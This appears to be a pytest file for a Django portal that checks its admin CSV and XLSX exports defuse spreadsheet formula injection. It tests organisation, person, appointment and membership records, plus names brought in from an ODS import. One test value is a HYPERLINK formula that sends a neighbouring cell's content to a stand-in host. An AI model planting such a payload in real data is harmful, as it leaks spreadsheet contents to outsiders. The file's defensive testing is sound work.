"""Every admin export (django-import-export) is written by the portal's one writer: a formula an MSO
types into their organisation's profile, or an ODS file brings in, reaches the national lead's CSV
with a quote before it and the XLSX as a text cell, exactly as entered."""

import csv
import datetime
import io

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from imports.organisations import OrganisationResource
from msonet.spreadsheets import CSVFormat, XLSXFormat
from networks.resources import MembershipResource
from officers.resources import PeopleResource
from organisations.models import Organisation
from tests.factories import AppointmentFactory, MembershipFactory, OrganisationFactory, PersonFactory
from tests.factories.files import ods_row

pytestmark = pytest.mark.django_db

EQUALS = "=2+2"
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

# Each admin that exports: its resource, the column (as exported) that finds the row, and the column
# holding the formula the `formulas` fixture put there.
ADMIN_EXPORTS = {
    "organisations.organisation": (OrganisationResource, "ods_code", "RZZ01", "board_director_name", EQUALS),
    "officers.person": (PeopleResource, "Work email", "formula@nhs.net", "Job title", HYPERLINK),
    "officers.appointment": (PeopleResource, "Work email", "formula@nhs.net", "Job title", HYPERLINK),
    "networks.membership": (MembershipResource, "Work email", "formula@nhs.net", "Name", f"{EQUALS} Zulu"),
}


def exporting_admins() -> dict:
    return {
        model._meta.label_lower: model_admin
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_export_formats")
    }


def admin_export(client, label: str, file_format: str) -> bytes:
    """The admin's export of every column of `label`'s resource, as CSV or XLSX."""
    model_admin = exporting_admins()[label]
    formats = [export_format().get_extension() for export_format in model_admin.get_export_formats()]
    resource = ADMIN_EXPORTS[label][0]
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource.fields}
    response = client.post(
        reverse(f"admin:{label.replace('.', '_')}_export"),
        {"format": str(formats.index(file_format)), "resource": "0", **fields},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{file_format}"')
    return response.content


def csv_cell(data: bytes, key_column: str, key: str, column: str) -> str:
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    row = next(row for row in rows if row[header.index(key_column)] == key)
    return row[header.index(column)]


def xlsx_cell(data: bytes, key_column: str, key: str, column: str):
    """The cell, after checking that no cell of the workbook is a formula."""
    header, *rows = load_workbook(io.BytesIO(data)).active.iter_rows()
    assert not [cell.coordinate for row in [header, *rows] for cell in row if cell.data_type == "f"]
    names = [cell.value for cell in header]
    row = next(row for row in rows if row[names.index(key_column)].value == key)
    return row[names.index(column)]


@pytest.fixture
def formulas(world):
    """An organisation whose board director, and a person whose job title and first name, are formulas."""
    organisation = OrganisationFactory(ods_code="RZZ01", region=world.london, board_director_name=EQUALS)
    person = PersonFactory(work_email="formula@nhs.net", first_name=EQUALS, last_name="Zulu", job_title=HYPERLINK)
    AppointmentFactory(person=person, organisation=organisation, start_date=datetime.date(2024, 1, 8))
    MembershipFactory(person=person, network=world.network_a)


def test_every_admin_that_exports_writes_through_the_portals_writer():
    admins = exporting_admins()
    assert set(admins) == set(ADMIN_EXPORTS)
    for label, model_admin in admins.items():
        assert model_admin.get_export_formats() == [CSVFormat, XLSXFormat], label


def mso_sets_board_director(client, world, name: str) -> None:
    client.force_login(world.mso)
    response = client.post(reverse("directory:board-director", args=[world.org_a.ods_code]), {"name": name})
    assert response.status_code == 302
    world.org_a.refresh_from_db()
    assert world.org_a.board_director_name == name


@pytest.mark.parametrize("name", [EQUALS, HYPERLINK])
def test_a_board_director_set_to_a_formula_on_the_profile_page_is_quoted_in_the_admins_csv(client, world, name):
    mso_sets_board_director(client, world, name)
    client.force_login(world.lead)

    data = admin_export(client, "organisations.organisation", "csv")

    assert csv_cell(data, "ods_code", "RAL", "board_director_name") == f"'{name}"


@pytest.mark.parametrize("name", [EQUALS, HYPERLINK])
def test_a_board_director_set_to_a_formula_on_the_profile_page_is_text_in_the_admins_xlsx(client, world, name):
    mso_sets_board_director(client, world, name)
    client.force_login(world.lead)

    cell = xlsx_cell(
        admin_export(client, "organisations.organisation", "xlsx"), "ods_code", "RAL", "board_director_name"
    )

    assert (cell.value, cell.data_type) == (name, "s")


@pytest.mark.parametrize("label", ADMIN_EXPORTS)
def test_every_admin_csv_export_quotes_a_formula(client, world, formulas, label):
    _resource, key_column, key, column, value = ADMIN_EXPORTS[label]
    client.force_login(world.lead)

    assert csv_cell(admin_export(client, label, "csv"), key_column, key, column) == f"'{value}"


@pytest.mark.parametrize("label", ADMIN_EXPORTS)
def test_every_admin_xlsx_export_holds_a_formula_as_text(client, world, formulas, label):
    _resource, key_column, key, column, value = ADMIN_EXPORTS[label]
    client.force_login(world.lead)

    cell = xlsx_cell(admin_export(client, label, "xlsx"), key_column, key, column)

    assert (cell.value, cell.data_type) == (value, "s")


def test_the_admin_xlsx_exports_keep_dates_as_dates(client, world, formulas):
    client.force_login(world.lead)

    people = admin_export(client, "officers.person", "xlsx")
    organisations = admin_export(client, "organisations.organisation", "xlsx")

    start = xlsx_cell(people, "Work email", "formula@nhs.net", "Start date")
    opened = xlsx_cell(organisations, "ods_code", "RZZ01", "opened_on")
    assert (start.value, start.data_type) == (datetime.datetime(2024, 1, 8), "d")
    assert (opened.value, opened.data_type) == (datetime.datetime(2015, 4, 1), "d")


def test_an_organisation_name_from_an_ods_import_is_text_in_the_admins_exports(client, world, tmp_path):
    path = tmp_path / "etr.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL).writerow(ods_row("RZZ02", HYPERLINK))
    call_command("import_ods", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    name = Organisation.objects.get(ods_code="RZZ02").name
    assert name.startswith("=")
    client.force_login(world.lead)

    assert (
        csv_cell(admin_export(client, "organisations.organisation", "csv"), "ods_code", "RZZ02", "name") == f"'{name}"
    )
    cell = xlsx_cell(admin_export(client, "organisations.organisation", "xlsx"), "ods_code", "RZZ02", "name")
    assert (cell.value, cell.data_type) == (name, "s")
